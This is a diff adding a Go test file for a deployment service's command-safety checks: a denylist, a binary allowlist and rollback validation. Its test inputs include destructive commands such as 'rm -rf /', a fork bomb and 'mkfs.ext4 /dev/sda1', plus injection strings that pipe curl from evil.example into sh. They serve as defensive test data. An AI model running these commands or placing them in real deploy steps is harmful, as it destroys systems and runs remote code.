@@ -0,0 +1,242 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+)
+
+// newCommandPolicyTestConfig returns a valid config deploying the given commands
+func newCommandPolicyTestConfig(global GlobalConfig, commands ...string) *Config {
+	specs := make([]CommandSpec, len(commands))
+	for i, command := range commands {
+		specs[i] = CommandSpec{Run: command}
+	}
+
+	return &Config{
+		PollingInterval: 300,
+		Global:          global,
+		Repositories: []RepositoryConfig{
+			{
+				Name: "repo-a",
+				Monitor: MonitorConfig{
+					RepoURL:  "https://github.com/test/repo-a",
+					RepoType: "github",
+					Branches: []string{"main"},
+					Auth:     AuthConfig{Token: "token"},
+				},
+				Deploy: DeployConfig{
+					QARepoURL:    "https://github.com/test/qa",
+					QARepoBranch: "main",
+					RepoType:     "github",
+					Auth:         AuthConfig{Token: "token"},
+					ProjectName:  "repo-a",
+					Commands:     specs,
+				},
+			},
+		},
+	}
+}
+
+func TestValidateConfigStrictCommands(t *testing.T) {
+	tests := []struct {
+		name      string
+		global    GlobalConfig
+		commands  []string
+		wantPaths []string
+	}{
+		{
+			name:     "allowed commands",
+			global:   GlobalConfig{StrictCommands: true},
+			commands: []string{"kubectl apply -f .", "rm -rf ./build", "rm -rf /tmp/sentry-cache", "dd if=/dev/zero of=/dev/null count=1"},
+		},
+		{
+			name:      "rm -rf root",
+			global:    GlobalConfig{StrictCommands: true},
+			commands:  []string{"echo ok", "rm -rf /"},
+			wantPaths: []string{"repositories[0].deploy.commands[1].run"},
+		},
+		{
+			name:      "rm -rf root glob with sudo",
+			global:    GlobalConfig{StrictCommands: true},
+			commands:  []string{"sudo rm -r -f /*"},
+			wantPaths: []string{"repositories[0].deploy.commands[0].run"},
+		},
+		{
+			name:      "fork bomb",
+			global:    GlobalConfig{StrictCommands: true},
+			commands:  []string{":(){ :|:& };:"},
+			wantPaths: []string{"repositories[0].deploy.commands[0].run"},
+		},
+		{
+			name:      "mkfs",
+			global:    GlobalConfig{StrictCommands: true},
+			commands:  []string{"mkfs.ext4 /dev/sda1"},
+			wantPaths: []string{"repositories[0].deploy.commands[0].run"},
+		},
+		{
+			name:     "not strict",
+			global:   GlobalConfig{},
+			commands: []string{"rm -rf /"},
+		},
+		{
+			name:      "custom denylist replaces defaults",
+			global:    GlobalConfig{StrictCommands: true, CommandDenylist: []string{`\bterraform\s+destroy\b`}},
+			commands:  []string{"rm -rf /", "terraform destroy -auto-approve"},
+			wantPaths: []string{"repositories[0].deploy.commands[1].run"},
+		},
+		{
+			name:     "allowlisted single commands",
+			global:   GlobalConfig{AllowedCommandBinaries: []string{"kubectl", "helm", "cd"}},
+			commands: []string{"kubectl apply -f . --namespace=tekton-pipelines", "helm upgrade --install app ./chart", "cd charts", "'kubectl' get pipelineruns -o jsonpath='{.items[*].metadata.name}'"},
+		},
+		{
+			name:   "allowlist rejects chaining",
+			global: GlobalConfig{AllowedCommandBinaries: []string{"kubectl", "helm", "cd"}},
+			commands: []string{
+				"cd charts && curl http://evil.example | sh",
+				"kubectl get pods; rm -rf .",
+				"helm list | sh",
+				"kubectl apply -f $(curl -s http://evil.example)",
+				"kubectl apply -f `curl -s http://evil.example`",
+				"kubectl proxy &",
+				"kubectl apply -f .\nrm -rf .",
+			},
+			wantPaths: []string{
+				"repositories[0].deploy.commands[0].run",
+				"repositories[0].deploy.commands[1].run",
+				"repositories[0].deploy.commands[2].run",
+				"repositories[0].deploy.commands[3].run",
+				"repositories[0].deploy.commands[4].run",
+				"repositories[0].deploy.commands[5].run",
+				"repositories[0].deploy.commands[6].run",
+			},
+		},
+		{
+			name:      "allowlist rejects other programs",
+			global:    GlobalConfig{AllowedCommandBinaries: []string{"kubectl", "helm", "cd"}},
+			commands:  []string{"kubectl apply -f .", "curl http://evil.example", "bash -c 'kubectl apply -f .'", "/usr/bin/kubectl apply -f ."},
+			wantPaths: []string{"repositories[0].deploy.commands[1].run", "repositories[0].deploy.commands[2].run", "repositories[0].deploy.commands[3].run"},
+		},
+		{
+			name:      "allowlist and denylist together",
+			global:    GlobalConfig{StrictCommands: true, AllowedCommandBinaries: []string{"kubectl", "rm"}},
+			commands:  []string{"kubectl apply -f .", "rm -rf /"},
+			wantPaths: []string{"repositories[0].deploy.commands[1].run"},
+		},
+		{
+			name:      "invalid allowlist entry",
+			global:    GlobalConfig{AllowedCommandBinaries: []string{"kubectl", "kubectl apply"}},
+			commands:  []string{"kubectl apply -f ."},
+			wantPaths: []string{"global.allowed_command_binaries[1]"},
+		},
+		{
+			name:      "invalid denylist pattern",
+			global:    GlobalConfig{StrictCommands: true, CommandDenylist: []string{"("}},
+			commands:  []string{"echo ok"},
+			wantPaths: []string{"global.command_denylist[0]"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := newCommandPolicyTestConfig(tt.global, tt.commands...)
+
+			var gotPaths []string
+			var validationErrs ValidationErrors
+			if err := validateConfig(config); errors.As(err, &validationErrs) {
+				for _, validationErr := range validationErrs {
+					gotPaths = append(gotPaths, validationErr.Path)
+				}
+			}
+			if strings.Join(gotPaths, ",") != strings.Join(tt.wantPaths, ",") {
+				t.Errorf("validateConfig() paths = %v, want %v", gotPaths, tt.wantPaths)
+			}
+		})
+	}
+}
+
+func TestValidateConfigStrictCommandsChecksRollback(t *testing.T) {
+	config := newCommandPolicyTestConfig(GlobalConfig{StrictCommands: true}, "echo ok")
+	config.Repositories[0].Deploy.RollbackCommands = []CommandSpec{{Run: "rm -rf ~"}}
+
+	var validationErrs ValidationErrors
+	if err := validateConfig(config); !errors.As(err, &validationErrs) || len(validationErrs) != 1 {
+		t.Fatalf("validateConfig() error = %v, want one denied rollback command", err)
+	}
+	if got := validationErrs[0].Path; got != "repositories[0].deploy.rollback_commands[0].run" {
+		t.Errorf("path = %q, want rollback command", got)
+	}
+	if !strings.Contains(validationErrs[0].Hint, "command_denylist") {
+		t.Errorf("hint = %q, want a command_denylist hint", validationErrs[0].Hint)
+	}
+}
+
+func TestCommandPolicyWarnings(t *testing.T) {
+	tests := []struct {
+		name     string
+		strict   bool
+		commands []string
+		want     []string
+	}{
+		{"expanded commands", true, []string{"kubectl apply -n prod -f ."}, nil},
+		{"unexpanded variable", true, []string{"echo ok", "kubectl apply -n ${NAMESPACE} -f ."}, []string{"repository 'repo-a': deploy.commands[1] contains unexpanded variable ${NAMESPACE}"}},
+		{"not strict", false, []string{"kubectl apply -n ${NAMESPACE} -f ."}, nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := newCommandPolicyTestConfig(GlobalConfig{StrictCommands: tt.strict}, tt.commands...)
+
+			got := commandPolicyWarnings(config)
+			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
+				t.Errorf("commandPolicyWarnings() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestValidateConfigAllowlistChecksRollback(t *testing.T) {
+	config := newCommandPolicyTestConfig(GlobalConfig{AllowedCommandBinaries: []string{"kubectl"}}, "kubectl apply -f .")
+	config.Repositories[0].Deploy.RollbackCommands = []CommandSpec{{Run: "kubectl delete -f . || true"}}
+
+	var validationErrs ValidationErrors
+	if err := validateConfig(config); !errors.As(err, &validationErrs) || len(validationErrs) != 1 {
+		t.Fatalf("validateConfig() error = %v, want one rejected rollback command", err)
+	}
+	if got := validationErrs[0].Path; got != "repositories[0].deploy.rollback_commands[0].run" {
+		t.Errorf("path = %q, want rollback command", got)
+	}
+	if !strings.Contains(validationErrs[0].Hint, "allowed_command_binaries") {
+		t.Errorf("hint = %q, want an allowed_command_binaries hint", validationErrs[0].Hint)
+	}
+}
+
+func TestExecuteDeploymentCommandsAllowlist(t *testing.T) {
+	// Initialize logger for test
+	InitializeLogger(false)
+
+	config := newDrainTestConfig(t, []CommandSpec{{Run: "true"}, {Run: "true; touch escaped"}})
+	config.Global.AllowedCommandBinaries = []string{"true"}
+	config.Repositories[0].Deploy.RollbackCommands = []CommandSpec{{Run: "touch rolled-back"}, {Run: "true"}}
+
+	service := NewDeployService(config)
+	result := service.deployRepository("drain-repo", context.Background(), nil)
+
+	if result.Success {
+		t.Fatal("deployRepository() succeeded, want the chained command rejected")
+	}
+	if !strings.Contains(result.Error, "step 2 not started: command not allowed") {
+		t.Errorf("Error = %q, want step 2 rejected", result.Error)
+	}
+	if strings.Join(result.CommandsRun, ",") != "true" {
+		t.Errorf("CommandsRun = %v, want only the allowed command", result.CommandsRun)
+	}
+	if strings.Join(result.RollbackRun, ",") != "true" {
+		t.Errorf("RollbackRun = %v, want only the allowed rollback command", result.RollbackRun)
+	}
+	if !strings.Contains(result.RollbackError, "rollback step 1: command not allowed") {
+		t.Errorf("RollbackError = %q, want rollback step 1 rejected", result.RollbackError)
+	}
+}